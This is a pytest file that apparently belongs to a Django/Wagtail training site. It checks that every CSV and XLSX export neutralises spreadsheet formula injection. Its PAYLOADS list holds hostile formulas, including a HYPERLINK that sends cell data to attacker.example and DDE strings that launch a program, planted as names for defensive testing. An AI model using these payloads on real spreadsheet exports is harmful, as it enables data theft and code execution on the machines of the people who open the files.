"""No export puts a live formula in front of whoever opens it: every CSV and XLSX goes through one writer.

A learner (or anyone who can type text the site stores) names themselves like a formula; every file the
site exports is opened as a spreadsheet program would open it, and no cell may be a formula or start
like one.
"""
import csv
import io
import re
from datetime import datetime, timezone as dt_timezone
from pathlib import Path

import pytest
import time_machine
from openpyxl import load_workbook

from accounts import roles
from accounts.models import AuditEntry, MembershipStatus, Organisation
from foundation.spreadsheets import csv_cell, is_dangerous, neutralise, spreadsheet
from lms.reporting.models import ReportExport
from schools.models import School
from tests.factories import UserFactory
from tests.reporting.conftest import partnership  # noqa: F401 (a fixture)

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&B2,"Larry Two")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1",
]
ROOT = Path(__file__).resolve().parents[2]


# --- the writer itself -----------------------------------------------------------------------------

@pytest.mark.parametrize("payload", [*PAYLOADS, " =1+1", "\n=1+1", "\u00a0@x"])
def test_text_that_could_start_a_formula_gets_a_quote_in_front(payload):
    assert neutralise(payload) == "'" + payload
    assert not is_dangerous(neutralise(payload))


def test_ordinary_text_and_real_numbers_are_left_alone():
    assert neutralise("Pat O'Neill") == "Pat O'Neill"
    assert neutralise("Year 7 – 30 pupils") == "Year 7 – 30 pupils"
    assert csv_cell(-5) == "-5"  # a number the writer was given as a number stays a number
    assert csv_cell("-5") == "'-5"  # text that looks like one is still text


def test_an_xlsx_never_holds_a_formula_and_numbers_stay_numbers():
    file = spreadsheet("xlsx")
    file.sheet("Test")
    file.row([*PAYLOADS, 12, -3.5])
    sheet = load_workbook(io.BytesIO(file.content()))["Test"]
    cells = list(sheet.iter_rows())[0]
    assert [c.data_type for c in cells] == ["s"] * len(PAYLOADS) + ["n", "n"]
    assert _planted([c.value for c in cells[:len(PAYLOADS)]]) == set(PAYLOADS)
    assert [c.value for c in cells[len(PAYLOADS):]] == [12, -3.5]


# --- nothing can go round it -----------------------------------------------------------------------

WRITER = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|\bWorkbook\(")


def test_only_the_foundation_writes_spreadsheets():
    """The site's code writes CSV and XLSX only through foundation.spreadsheets (tests and benchmarks may read)."""
    offenders = []
    for app in ("accounts", "certificates", "courses", "schools", "lms"):
        for path in (ROOT / app).rglob("*.py"):
            if WRITER.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], f"Write spreadsheets with foundation.spreadsheets, not directly: {offenders}"


def test_wagtails_own_exports_are_guarded():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert SpreadsheetExportMixin._cells_guarded


# --- every export, with the planted names --------------------------------------------------------

def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "an XLSX cell is a formula"
    return [c.value for c in cells if isinstance(c.value, str)]


def _cells(content: bytes, file_format: str) -> list[str]:
    cells = _xlsx_cells(content) if file_format == "xlsx" else _csv_cells(content)
    dangerous = [cell for cell in cells if is_dangerous(cell)]
    assert dangerous == [], f"cells that would run as formulas: {dangerous}"
    return cells


def _planted(cells: list[str]) -> set[str]:
    """The planted names found, as written (an XLSX's XML turns a carriage return into a line feed)."""
    found = {cell.replace("\n", "\r") for cell in cells} | set(cells)
    return {payload for payload in PAYLOADS if "'" + payload in found}


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def planted(partnership):
    """Every name the exports show is a formula: people, an organisation and the schools."""
    police = partnership.police
    Organisation.objects.filter(pk=police.pk).update(name=PAYLOADS[0])
    for number, payload in enumerate(PAYLOADS):
        UserFactory(full_name=payload, email=f"planted{number}@example.org", organisation=police,
                    area=partnership.north, membership_status=MembershipStatus.APPROVED)
    partnership.p1.full_name = PAYLOADS[3]  # holds a certificate that needs a refresher in spring 2025
    partnership.p1.save()
    for school, payload in zip(School.objects.order_by("pk"), PAYLOADS[1:]):
        School.objects.filter(pk=school.pk).update(name=payload)
    return partnership


@pytest.fixture
def staff_client(client, make_user, planted):
    client.force_login(make_user(roles.PARTNERSHIP_STAFF))
    return client


FY2024 = "period=financial_year&year=2024"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_dashboard_tables_now_and_in_the_background(staff_client, file_format, django_capture_on_commit_callbacks):
    cells = _cells(_body(staff_client.get(f"/dashboard/export/all.{file_format}?{FY2024}")), file_format)
    assert "'" + PAYLOADS[0] in cells  # the organisation's name, neutralised
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(f"/dashboard/export/all.{file_format}?{FY2024}")
    export = ReportExport.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    cells = _cells(_body(staff_client.get(f"/dashboard/exports/{export.pk}/download/")), file_format)
    assert "'" + PAYLOADS[0] in cells


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_svd_return(staff_client, file_format, django_capture_on_commit_callbacks):
    _cells(_body(staff_client.get(f"/dashboard/serious-violence-duty/return.{file_format}?quarter=2024-1")),
           file_format)
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(f"/dashboard/serious-violence-duty/return.{file_format}?quarter=2024-1")
    export = ReportExport.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    _cells(_body(staff_client.get(f"/dashboard/exports/{export.pk}/download/")), file_format)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_staff_list_and_refreshers(staff_client, planted, file_format, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post("/dashboard/staff/export/",
                                     {"organisation": planted.police.pk, "file_format": file_format})
    export = ReportExport.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    cells = _cells(_body(staff_client.get(f"/dashboard/exports/{export.pk}/download/")), file_format)
    assert _planted(cells) == set(PAYLOADS)
    with time_machine.travel(datetime(2025, 4, 10, 12, tzinfo=dt_timezone.utc)):
        staff_client.force_login(response.wsgi_request.user)
        body = _body(staff_client.get(f"/dashboard/staff/refreshers.{file_format}?organisation={planted.police.pk}"))
    cells = _cells(body, file_format)
    assert "'" + PAYLOADS[3] in cells


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_wagtails_audit_log_export(client, make_user, file_format):
    for payload in PAYLOADS:
        AuditEntry.objects.create(actor_label=payload, action="report.export", target_label=payload,
                                  detail=payload, user_agent=payload)
    admin = make_user(roles.PARTNERSHIP_STAFF, is_superuser=True)
    client.force_login(admin)
    cells = _cells(_body(client.get(f"/admin/audit_log/?export={file_format}")), file_format)
    assert _planted(cells) == set(PAYLOADS)


def test_the_personal_data_download_is_json_not_a_spreadsheet(client, make_user):
    """The data download is JSON (no spreadsheet reads it as formulas), so it gives the person their name exactly."""
    person = make_user(full_name=PAYLOADS[0])
    client.force_login(person)
    response = client.get("/account/data/")
    assert response["Content-Type"] == "application/json"
    assert response.json()["account"]["full_name"] == PAYLOADS[0]
